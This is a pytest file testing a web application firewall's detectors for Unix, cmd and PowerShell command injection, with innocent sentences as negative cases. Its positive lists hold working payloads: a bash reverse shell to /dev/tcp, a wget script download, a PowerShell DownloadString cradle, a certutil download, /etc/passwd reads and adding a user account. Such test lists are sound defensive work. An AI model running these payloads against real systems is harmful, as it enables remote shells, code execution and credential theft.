"""Commands for the shells of Unix and Windows, and sentences with the same words."""

from __future__ import annotations

import pytest

from garrison.waf.detectors import unix_commands, windows_commands
from tests.waf.detectors.seen import lines, sees

SHELL = (unix_commands.COMMAND, unix_commands.FORM)

UNIX = lines(
    r"""
    ;id
    x;id;
    x|id
    | ls -la
    && whoami
    `uname -a`
    $(whoami)
    $(cat /etc/hostname)
    ; wget http://e.example/x.sh
    ;c'a't /et'c'/passwd
    ;w\hoami
    ;cat$IFS/etc/hosts
    ;cat${IFS}/etc/hosts
    |$u nc 10.0.0.1 99
    {cat,/etc/hosts}
    /???/c?t /???/h?sts
    /etc/pass[w]d
    () { :; }; echo x
    bash -i >& /dev/tcp/10.0.0.1/99 0>&1
    cat /etc/passwd
    /usr/bin/id
    ||/bin/ls|
    x¦nid¦n
    ; ping -c 3 10.0.0.1
    | base64 -d | sh
    echo $HOME
    echo $((8*8))
    ; sleep 9
    python3 -c 'import os'
    <!--#exec cmd="ls" -->
    alias x=id
    !-1!-2
    OyBjYXQgL2V0Yy9wYXNzd2Q=
    """
)

UNIX_INNOCENT = lines(
    """
    a=b or c=d; which?
    nice; more please
    rock & roll
    AT&T; cat food & dog food
    rm 300 ringgit
    nc 9000 controller
    ls 400 lexus
    cat /dog food
    bash away at the gym
    curl hair products
    find me at /r/python
    use `find` or `sort`
    cast as lead; convert to HD
    $100 (or less)
    {a,b} and {c}
    Home | Sale | More
    exec summary; time to go
    echo chamber
    sleep 8 hours
    (id) required
    python tutorial
    what? no way! *really*
    """
)

CMD = lines(
    r"""
    & dir c:\
    | type c:\x.ini
    cmd /c whoami
    cmd.exe /k set
    ;ipconfig /all
    & net user x y /add
    c^md /c dir
    %COMSPEC% /c dir
    for /f %a in ('dir') do echo %a
    if exist x.txt (echo y)
    certutil -urlcache -f http://e.example/x x
    | set /a 12*12
    | nslookup e.example
    """
)

POWERSHELL = lines(
    r"""
    powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
    IEX(New-Object Net.WebClient).DownloadString('http://e.example')
    ;Invoke-Expression $x
    | Get-Process
    Inv`oke-Expr`ession 1
    [System.Convert]::FromBase64String('x')
    """
)

WINDOWS_INNOCENT = lines(
    """
    if it is red == good
    for 5% in (cash) do call
    type of car
    start here & end there
    the net user experience
    set a date
    state-of-the-art, get-together, add-on
    copy that; move on
    100% (one hundred %)
    """
)


@pytest.mark.parametrize("value", UNIX)
def test_unix_commands_are_found(value: str) -> None:
    assert sees(value, *SHELL)


@pytest.mark.parametrize("value", UNIX_INNOCENT)
def test_words_that_are_also_commands_are_left_alone(value: str) -> None:
    assert not sees(value, *SHELL)


@pytest.mark.parametrize("value", CMD)
def test_commands_for_cmd_are_found(value: str) -> None:
    assert sees(value, windows_commands.CMD)


@pytest.mark.parametrize("value", POWERSHELL)
def test_commands_for_powershell_are_found(value: str) -> None:
    assert sees(value, windows_commands.POWERSHELL)


@pytest.mark.parametrize("value", WINDOWS_INNOCENT)
def test_sentences_for_windows_are_left_alone(value: str) -> None:
    assert not sees(value, windows_commands.CMD, windows_commands.POWERSHELL)
